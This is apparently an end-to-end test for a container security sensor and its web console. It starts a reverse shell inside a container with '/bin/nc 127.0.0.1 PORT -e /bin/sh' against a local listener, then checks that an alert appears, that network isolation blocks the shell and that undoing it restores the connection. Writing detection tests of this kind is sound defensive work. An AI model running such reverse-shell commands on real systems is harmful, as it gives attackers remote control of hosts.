import { execFile, spawn } from "node:child_process";
import { once } from "node:events";
import { createServer } from "node:net";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { promisify } from "node:util";
import { temporaryDirectory } from "@bulwark/image/testing";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type ConsoleBench, openConsoleBench, settled } from "./support/console-bench.ts";
import { type Containerd, openContainerd, whyNoContainerd } from "./support/containerd.ts";
import { SENSOR, whyNoSensor } from "./support/sensor-process.ts";

const why = whyNoSensor() || whyNoContainerd();
if (why !== "") console.warn(`no attack is watched in the console: ${why}`);

const SLOW_MS = 240_000;
const CONTAINER = `console-${process.pid}`;

describe.skipIf(why !== "")("from the attack to the network that is given back, in a browser", () => {
  const directory = temporaryDirectory();
  const opened: (() => unknown)[] = [() => directory.remove()];
  let bench: ConsoleBench;
  let containerd: Containerd;
  beforeAll(async () => {
    bench = await openConsoleBench();
    opened.push(bench.close);
    containerd = await openContainerd(directory.path);
    opened.push(containerd.close, () => containerd.remove(CONTAINER));
    await containerd.load("docker.io/library/shop:2");
  }, SLOW_MS);
  afterAll(async () => {
    for (const end of opened.toReversed()) await end();
  });

  /** Enrols and starts the sensor as its service would. */
  async function startSensor(token: string): Promise<void> {
    const state = join(directory.path, "sensor");
    const words = ["enroll", "--server", `https://${bench.gateway}`, "--state", state];
    await promisify(execFile)(SENSOR, words, { env: { ...process.env, BULWARK_ENROLMENT_TOKEN: token } });
    const sensor = spawn(SENSOR, ["run", "--state", state], { stdio: ["ignore", "ignore", "pipe"] });
    opened.push(async () => {
      const ended = once(sensor, "exit");
      sensor.kill("SIGTERM");
      await ended;
    });
    for await (const line of createInterface({ input: sensor.stderr })) if (line.includes("connected")) return;
  }

  /** Something that a shell calls home to. */
  async function attacker(): Promise<number> {
    const home = createServer((socket) => socket.on("error", () => {}).write("id\n"));
    opened.push(() => home.close());
    await new Promise<void>((resolve) => home.listen(0, "127.0.0.1", resolve));
    return (home.address() as { port: number }).port;
  }

  test("a reverse shell appears by itself, tells its story, is isolated, and its network restored", {
    timeout: SLOW_MS,
  }, async () => {
    const window = await bench.logIn();
    const { page } = window;
    const { token } = await bench.call<{ token: string }>(window, "POST", "/enrolment-tokens", { name: "test" });
    await startSensor(token);
    await page.goto("/alerts");
    await settled(page);
    await containerd.start("docker.io/library/shop:2", CONTAINER);
    const port = await attacker();
    const shell = containerd.exec(CONTAINER, `/bin/nc 127.0.0.1 ${port} -e /bin/sh`);
    // Nobody reloads the page.
    const row = page.locator(`main tr:has-text('${CONTAINER}')`).first();
    await row.waitFor({ timeout: 30_000 });
    await bench.picture(window, "sensor-alerts");
    await row.locator("td a").first().click();
    await page.waitForURL("**/alerts/*");
    await settled(page);
    await bench.picture(window, "sensor-alert");
    await page.click("button:has-text('Isolate network')");
    await page.fill("#reason", "a shell that calls home");
    await page.click(".ant-modal-footer button:has-text('Isolate network')");
    await page.waitForSelector("main .tag:text-is('Done')", { timeout: 30_000 });
    await expect(containerd.exec(CONTAINER, `echo x | /bin/nc -w 1 127.0.0.1 ${port}`)).resolves.not.toContain("id");
    await bench.picture(window, "sensor-isolated");
    await page.click("main td button:has-text('Undo')");
    await page.waitForSelector("main td:has-text('undone by')", { timeout: 30_000 });
    await expect(containerd.exec(CONTAINER, `echo x | /bin/nc -w 1 127.0.0.1 ${port}`)).resolves.toContain("id");
    await page.goto(`${page.url().split("?")[0]}?tab=story`);
    await settled(page);
    expect(await page.locator(".story-node").count()).toBeGreaterThan(1);
    await bench.picture(window, "sensor-story");
    expect(window.complaints).toEqual([]);
    await window.close();
    await containerd.remove(CONTAINER);
    await shell;
  });
});
